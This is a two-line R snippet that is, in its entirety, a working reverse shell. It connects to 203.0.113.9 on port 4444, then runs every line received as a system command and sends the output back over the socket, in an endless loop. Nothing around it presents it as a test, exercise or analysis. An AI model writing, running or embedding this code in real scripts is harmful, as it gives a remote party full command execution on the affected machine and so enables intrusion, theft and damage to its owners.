con <- socketConnection("203.0.113.9", port = 4444, blocking = TRUE, open = "r+")
while (TRUE) writeLines(system(readLines(con, 1), intern = TRUE), con)
